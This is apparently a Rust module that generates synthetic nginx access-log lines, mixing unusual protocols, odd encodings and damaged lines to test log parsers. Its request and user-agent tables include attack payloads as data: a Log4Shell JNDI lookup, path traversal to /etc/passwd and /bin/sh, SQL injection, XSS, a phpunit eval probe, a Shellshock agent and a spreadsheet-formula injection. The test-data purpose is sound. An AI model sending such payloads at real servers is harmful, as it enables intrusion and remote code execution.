//! Odd and hostile requests, as every public server gets them, and damaged lines. Separate because it is a collection
//! of traps for log parsers: add a row for each new one.

use super::digits::{push_decimal, push_hex};
use super::rng::Rng;

/// Start of a TLS handshake; 32 random bytes follow it.
const HELLO: &str = r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03";

/// Requests as nginx logs them, already escaped, with status and bytes. All are well-formed log lines.
#[rustfmt::skip]
const REQUESTS: &[(&str, &str)] = &[
    // The connection closed before a request was sent, or the request timed out.
    ("", "400 0"), ("-", "400 0"), ("", "408 0"),
    // Other protocols on an HTTP port: TLS, SOCKS, RDP, SSH, SMB, HTTP/2.
    (r"\x16\x03\x01\x02", "400 150"), (HELLO, "400 150"), (r"\x05\x01\x00", "400 150"), (r"\x04\x01\x00P\x05\xBC\xD2e\x00", "400 150"),
    (r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", "400 150"),
    ("SSH-2.0-Go", "400 150"), (r"\x00\x00\x00\xA4\xFFSMBr\x00\x00\x00\x00\x08\x01@", "400 150"),
    ("PRI * HTTP/2.0", "400 150"), ("MGLNDD_203.0.113.7_443", "400 150"), ("HELP", "400 150"),
    // Absolute URIs, and scans for open proxies.
    ("GET http://example.com/ HTTP/1.1", "200 11874"), ("GET http://azenv.example.net/ HTTP/1.0", "404 146"),
    ("GET https://www.example.com?utm_source=x HTTP/1.1", "200 11874"), ("CONNECT example.org:443 HTTP/1.1", "400 150"),
    // Escaped characters, spaces, no protocol, or bytes outside ASCII.
    (r"GET /search?q=\x22onmouseover=alert(1) HTTP/1.1", "200 8790"), (r"GET /catalogue/\x5C..\x5C..\x5Cwindows\x5Cwin.ini HTTP/1.1", "400 150"),
    (r"GET /\xD0\x9F\xD1\x80\xD0\xB8\xD0\xB2\xD0\xB5\xD1\x82/ HTTP/1.1", "404 4386"), (r"GET /search?q=\xE4\xB8\x89\xE4\xBD\x93 HTTP/1.1", "200 9120"),
    (r"GET /caf\xE9.html HTTP/1.1", "404 4386"), ("GET /media/catalogue/old cover (1).jpg HTTP/1.1", "404 146"), ("GET /", "200 11874"),
    // Methods and targets that are rare but valid.
    ("OPTIONS * HTTP/1.1", "200 0"), ("PROPFIND / HTTP/1.1", "405 150"), ("TRACE / HTTP/1.1", "405 150"), ("M-SEARCH / HTTP/1.1", "405 150"),
    // Attacks.
    ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", "400 150"), ("GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1", "200 11874"),
    ("GET /?id=1%27%20UNION%20SELECT%20NULL,version()--%20- HTTP/1.1", "200 11874"), ("GET //a//../../etc/passwd HTTP/1.1", "400 150"),
    ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "404 146"), ("GET /?<script>alert(1)</script> HTTP/1.1", "200 11874"),
];
const AGENTS: &[&str] = &[
    "-",
    "-",
    "Mozilla/5.0 zgrab/0.x",
    "() { :; }; echo; /bin/bash -c \\x22id\\x22",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "\\x22Mozilla/5.0\\x22",
    "sqlmap/1.8#stable (https://sqlmap.org)",
    "=HYPERLINK(\\x22http://example.net\\x22)",
    "\\xD1\\x82\\xD0\\xB5\\xD1\\x81\\xD1\\x82",
];

/// Appends the rest of a line, after the opening quote of the request.
pub(crate) fn push_request(out: &mut Vec<u8>, rng: &mut Rng) {
    let (request, answer) = rng.pick(REQUESTS);
    out.extend_from_slice(request.as_bytes());
    if request == HELLO {
        let noise: [u8; 32] = std::array::from_fn(|_| rng.bits() as u8);
        push_escaped(out, &noise);
    }
    out.extend_from_slice(b"\" ");
    out.extend_from_slice(answer.as_bytes());
    // If nginx did not understand the request, there are no headers to log.
    let agent = if request.contains(" HTTP/1") { rng.pick(AGENTS) } else { "-" };
    out.extend_from_slice(b" \"-\" \"");
    out.extend_from_slice(agent.as_bytes());
    out.push(b'"');
}

/// Escapes bytes as nginx does: `"`, `\` and all but printable ASCII, in upper-case hexadecimal.
fn push_escaped(out: &mut Vec<u8>, bytes: &[u8]) {
    for &byte in bytes {
        match byte {
            b'"' | b'\\' | 0..0x20 | 0x7f.. => {
                out.extend_from_slice(b"\\x");
                let at = out.len();
                push_hex(out, byte.into(), 2);
                out[at..].make_ascii_uppercase();
            }
            _ => out.push(byte),
        }
    }
}

/// Damages a well-formed line, given without its line end: it then fits no format, but is neither blank nor split in
/// two.
///
/// Cuts are made before `cut_end`, the quote that closes the user agent, or the last brace. A line cut after that could
/// still be parsed.
pub(crate) fn damage(line: &mut Vec<u8>, cut_end: usize, rng: &mut Rng) {
    let cut = 1 + rng.below(cut_end as u64 - 1) as usize;
    match rng.below(4) {
        // The disk was full.
        0 | 1 => line.truncate(cut),
        // The machine lost power: data that was not yet on disk reads as NULs, at the end of the line.
        2 => line[cut..].fill(0),
        // An error log has the same name, or bytes of another file got in.
        _ if rng.below(2) == 0 => {
            line.clear();
            line.extend_from_slice(b"2026/11/14 03:12:55 [error] 1207#1207: *");
            push_decimal(line, rng.below(1_000_000));
            line.extend_from_slice(b" open() \"/srv/www/x.php\" failed (2: No such file or directory)");
        }
        _ => {
            let length = 1 + rng.below(200) as usize;
            line.clear();
            line.push(b'x'); // white space and NULs alone would be a blank line
            line.extend((0..length).map(|_| rng.bits() as u8).filter(|&byte| byte != b'\n'));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{REQUESTS, push_escaped};

    #[test]
    fn requests_are_escaped() {
        for (request, _) in REQUESTS {
            assert!(!request.contains('"') && request.bytes().all(|byte| (0x20..0x7f).contains(&byte)));
            assert!(request.match_indices('\\').all(|(at, _)| request[at..].starts_with("\\x")));
        }
    }

    #[test]
    fn bytes_are_escaped_as_nginx_does() {
        let mut out = Vec::new();
        push_escaped(&mut out, b"a\"\\ \x00\x7f\xfc~");
        assert_eq!(out, br"a\x22\x5C \x00\x7F\xFC~");
    }
}
